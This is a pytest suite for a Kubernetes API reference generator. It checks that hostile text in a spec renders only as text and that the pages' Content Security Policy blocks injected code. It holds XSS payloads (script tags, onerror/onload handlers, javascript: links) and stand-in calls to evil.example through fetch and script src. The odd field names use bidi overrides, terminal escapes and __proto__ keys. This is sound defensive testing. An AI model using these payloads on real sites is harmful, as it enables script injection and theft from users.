"""Text of a cluster is data: whatever a document says, nothing of it becomes markup, a script or a request."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from aiokube_codegen.reference.visible import visible
from tests.codegen.command import MINI
from tests.pages.reference import reference_of
from tests.support.pages import Pages, ready_to_search

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]

MARKUP = (
    "</details></main><script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>"
    "<a href='javascript:window.pwned = 3'>x</a><style>body{display:none}</style>"
    "<svg onload=window.pwned=4><!-- {{ 7 * 7 }} {% raw %} `'\"\\ ]]> "
    "[x](javascript:window.pwned=5) javascript:window.pwned=6 https://evil.example/x?'\"><script src=//evil.example>"
)
ODD_NAMES = ("\u202enight", "night\x1b[2J", "\U0001d4b3night", "\u0130\u0130night", "__proto__", "constructor")
"""Names of fields: text turned around, control characters, letters that are two characters each in JavaScript."""


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The reference of a document that says markup wherever it says anything."""
    folder = tmp_path_factory.mktemp("hostile")
    document = _spoiled(json.loads(MINI.read_text()))
    spec = document["definitions"]["io.k8s.api.core.v1.PodSpec"]
    spec["properties"][MARKUP] = {"type": "string", "description": MARKUP, "default": MARKUP, "enum": [MARKUP]}
    for name in ODD_NAMES:
        spec["properties"][name] = {"type": "string"}
    spec["properties"]["rule"] = {
        "type": "string",
        "pattern": MARKUP,
        "x-kubernetes-validations": [{"rule": MARKUP, "message": MARKUP}],
    }
    (folder / "document.json").write_text(json.dumps(document))
    return reference_of(folder / "document.json", folder / "pages")


def _spoiled(node: Any) -> Any:
    """A document with markup in every description and title."""
    if isinstance(node, list):
        return [_spoiled(item) for item in node]
    if not isinstance(node, dict):
        return node
    return {
        key: f"{value} {MARKUP} \u2028"
        if key in ("description", "title") and isinstance(value, str)
        else _spoiled(value)
        for key, value in node.items()
    }


async def test_no_page_runs_or_requests_anything(pages: Pages, hostile: Path) -> None:
    page = await pages.open("about:blank")
    for path in sorted(hostile.rglob("*.html")):
        await page.goto(path.as_uri())
        assert await page.evaluate("window.pwned") is None, path
        # The only script is the one in the head.
        assert await page.locator("script").count() == 1, path
        assert await page.locator("img, svg, style, iframe, [onload], [onerror]").count() == 0, path
        links = await page.locator("a").evaluate_all("(all) => all.map((one) => one.protocol)")
        assert set(links) <= {"file:", "https:", "http:"}, path


async def test_the_search_shows_markup_as_text(pages: Pages, hostile: Path) -> None:
    page = await pages.open((hostile / "index.html").as_uri())
    await ready_to_search(page)
    await page.get_by_role("combobox").fill("pod.spec.detailsMainScript")
    await expect(page.get_by_role("option").first).to_contain_text("<script>window.pwned = 1</script>")
    assert await page.locator("#hits :is(script, img, svg, style)").count() == 0
    await page.get_by_role("option").first.click()
    await expect(page.locator("details:target")).to_be_in_viewport()
    assert await page.evaluate("window.pwned") is None


async def test_odd_names_are_found_and_lead_to_their_fields(pages: Pages, hostile: Path) -> None:
    page = await pages.open((hostile / "index.html").as_uri())
    await ready_to_search(page)
    for name in ODD_NAMES:
        shown = visible(name)
        await page.get_by_role("combobox").fill(f"pod.spec.{shown}")
        hit = page.get_by_role("option").filter(has_text=f"Pod.spec.{shown}").first
        await expect(hit).to_be_visible()
        await hit.click()
        await expect(page.locator("details:target > summary > b")).to_have_text(shown)


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.pwned = 1'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
        "document.body.setAttribute('onclick', 'window.pwned = 1'), document.body.click()",
        "fetch('https://evil.example/').catch(() => {})",
        "location = 'javascript:window.pwned = 1'",
    ],
    ids=["script", "script of another host", "handler of markup", "handler", "request", "address"],
)
async def test_the_policy_of_pages_stops_what_gets_in(pages: Pages, hostile: Path, attack: str) -> None:
    """The second wall: what if the first one had a hole?"""
    page = await pages.open((hostile / "index.html").as_uri())
    await page.evaluate(f"void ({attack})")
    await page.wait_for_timeout(100)
    assert await page.evaluate("window.pwned") is None
    await pages.close()
    assert any("Content Security Policy" in complaint for complaint in pages.complaints), pages.complaints
    assert not any(complaint.startswith("request") for complaint in pages.complaints)
    pages.complaints.clear()
